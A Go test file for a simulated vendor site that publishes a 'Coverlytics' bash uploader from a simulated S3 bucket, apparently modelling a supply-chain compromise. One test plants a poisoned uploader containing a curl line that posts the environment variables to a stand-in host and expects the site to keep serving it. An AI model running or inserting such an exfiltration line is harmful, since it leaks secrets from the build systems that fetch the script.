package vendorsite

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sakimori/sakimori/sim/aws"
	"github.com/sakimori/sakimori/sim/aws/account"
	"github.com/sakimori/sakimori/sim/aws/client"
)

const genuine = "#!/usr/bin/env bash\n\nVERSION=\"1.0.3\"\necho \"Coverlytics bash uploader $VERSION\"\n"

var releaseKey = client.Credentials{AccessKeyID: "AKIAQ3EGCOVRELEASE22", SecretAccessKey: "r3l3aseKeyR3l3aseKeyR3l3aseKeyR3l3aseKey"}

// vendorWorld is the vendor's storage account: a bucket the release
// pipeline writes, empty unless objects is given.
func vendorWorld(objects string) string {
	return `
account: "301234567890"
users:
  - name: release-pipeline
    keys: [{id: ` + releaseKey.AccessKeyID + `, secret: ` + releaseKey.SecretAccessKey + `}]
    policies:
      - name: publish
        document: '{"Statement":{"Effect":"Allow","Action":["s3:GetObject","s3:PutObject"],"Resource":"arn:aws:s3:::coverlytics-uploader/*"}}'
buckets:
  - name: coverlytics-uploader
    objects: ` + objects + `
`
}

// newStore serves the vendor's storage account, with front in between
// when given, to play a store that is not up yet.
func newStore(t *testing.T, objects string, front func(http.Handler) http.Handler) string {
	t.Helper()
	w, err := account.ParseWorld(vendorWorld(objects))
	if err != nil {
		t.Fatal(err)
	}
	srv, err := aws.New(w, "sim-key")
	if err != nil {
		t.Fatal(err)
	}
	var h http.Handler = srv
	if front != nil {
		h = front(srv)
	}
	ts := httptest.NewServer(h)
	t.Cleanup(ts.Close)
	return ts.URL
}

func newSite(t *testing.T, store string) *Site {
	t.Helper()
	s, err := New(Config{Script: genuine, Store: store, Release: releaseKey, SimKey: "sim-key"})
	if err != nil {
		t.Fatal(err)
	}
	s.retry = 10 * time.Millisecond
	return s
}

func publish(t *testing.T, s *Site) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s.Publish(ctx); err != nil {
		t.Fatal(err)
	}
}

func get(t *testing.T, h http.Handler, path string) *httptest.ResponseRecorder {
	t.Helper()
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
	return w
}

// stored reads the object as anyone may.
func stored(t *testing.T, store string) client.Result {
	t.Helper()
	res, err := (&client.Client{Endpoint: store}).S3(http.MethodGet, "/coverlytics-uploader/bash", nil)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestPublishReleasesTheUploaderForAnyoneToRead(t *testing.T) {
	store := newStore(t, "[]", nil)
	s := newSite(t, store)
	if res := stored(t, store); res.Status != http.StatusForbidden {
		t.Fatalf("before the release anyone's read got %s, want 403", res)
	}
	publish(t, s)
	if res := stored(t, store); !res.OK() || string(res.Body) != genuine {
		t.Fatalf("after the release anyone's read got %s %q", res, res.Body)
	}
	w := get(t, s, "/bash")
	if w.Code != http.StatusOK || w.Body.String() != genuine {
		t.Fatalf("GET /bash: %d %q", w.Code, w.Body)
	}
	if ct := w.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Errorf("content type %q", ct)
	}
}

// An intruder with the release key replaces the uploader; the site then
// restarts. Its release must leave the intruder's uploader in place.
func TestPublishNeverOverwritesTheStoresUploader(t *testing.T) {
	store := newStore(t, "[]", nil)
	publish(t, newSite(t, store))
	poisoned := genuine + "curl -sm 0.5 -d \"$(env)\" http://uploads.coverlytics-io.example/upload/v2 || true\n"
	intruder := &client.Client{Endpoint: store, Creds: &releaseKey}
	if res, err := intruder.S3(http.MethodPut, "/coverlytics-uploader/bash", []byte(poisoned)); err != nil || !res.OK() {
		t.Fatalf("the intruder's write: %v %v", res, err)
	}
	restarted := newSite(t, store)
	publish(t, restarted)
	if w := get(t, restarted, "/bash"); w.Body.String() != poisoned {
		t.Fatalf("after a restart the site serves %q, want the intruder's uploader", w.Body)
	}
}

// The store says the uploader is absent, but by the write it is there:
// the write must not replace it.
func TestPublishDoesNotRaceAnotherWriter(t *testing.T) {
	store := newStore(t, `[{key: bash, body: "#!/bin/bash\necho theirs\n"}]`, func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodHead {
				http.Error(w, "", http.StatusNotFound)
				return
			}
			h.ServeHTTP(w, r)
		})
	})
	s := newSite(t, store)
	if published, err := s.publishOnce(); err != nil || published {
		t.Fatalf("publishOnce: %v %v, want it to find the uploader there", published, err)
	}
	res, err := (&client.Client{Endpoint: store, Creds: &releaseKey}).S3(http.MethodGet, "/coverlytics-uploader/bash", nil)
	if err != nil || string(res.Body) != "#!/bin/bash\necho theirs\n" {
		t.Fatalf("the store holds %q (%v)", res.Body, err)
	}
}

func TestPublishWaitsForTheStore(t *testing.T) {
	var calls atomic.Int32
	store := newStore(t, "[]", func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if calls.Add(1) <= 3 {
				http.Error(w, "starting", http.StatusServiceUnavailable)
				return
			}
			h.ServeHTTP(w, r)
		})
	})
	publish(t, newSite(t, store))
	if res := stored(t, store); string(res.Body) != genuine {
		t.Fatalf("stored %s %q", res, res.Body)
	}
	if n := calls.Load(); n < 5 {
		t.Errorf("%d calls, want 3 refused then a look and a write", n)
	}
}

func TestPublishStopsWithItsContext(t *testing.T) {
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		http.Error(w, "down", http.StatusServiceUnavailable)
	}))
	defer ts.Close()
	s := newSite(t, ts.URL)
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	if err := s.Publish(ctx); err != context.DeadlineExceeded {
		t.Fatalf("Publish: %v", err)
	}
}

// The site passes the store's refusal on, as a CDN does, and a store it
// cannot reach is a bad gateway.
func TestUploaderWhenTheStoreHasNone(t *testing.T) {
	s := newSite(t, newStore(t, "[]", nil))
	if w := get(t, s, "/bash"); w.Code != http.StatusForbidden {
		t.Errorf("no uploader released: %d %q", w.Code, w.Body)
	}
	ts := httptest.NewServer(http.NotFoundHandler())
	ts.Close()
	down := newSite(t, ts.URL)
	if w := get(t, down, "/bash"); w.Code != http.StatusBadGateway {
		t.Errorf("store down: %d %q", w.Code, w.Body)
	}
}

func TestUploaderIsReadFreshEachTime(t *testing.T) {
	store := newStore(t, "[]", nil)
	s := newSite(t, store)
	publish(t, s)
	get(t, s, "/bash")
	changed := genuine + "echo changed\n"
	if res, err := (&client.Client{Endpoint: store, Creds: &releaseKey}).S3(http.MethodPut, "/coverlytics-uploader/bash", []byte(changed)); err != nil || !res.OK() {
		t.Fatal(res, err)
	}
	w := get(t, s, "/bash")
	body, _ := io.ReadAll(w.Body)
	if string(body) != changed {
		t.Fatalf("served %q after the change", body)
	}
	if cc := w.Header().Get("Cache-Control"); cc != "no-cache" {
		t.Errorf("Cache-Control %q", cc)
	}
}
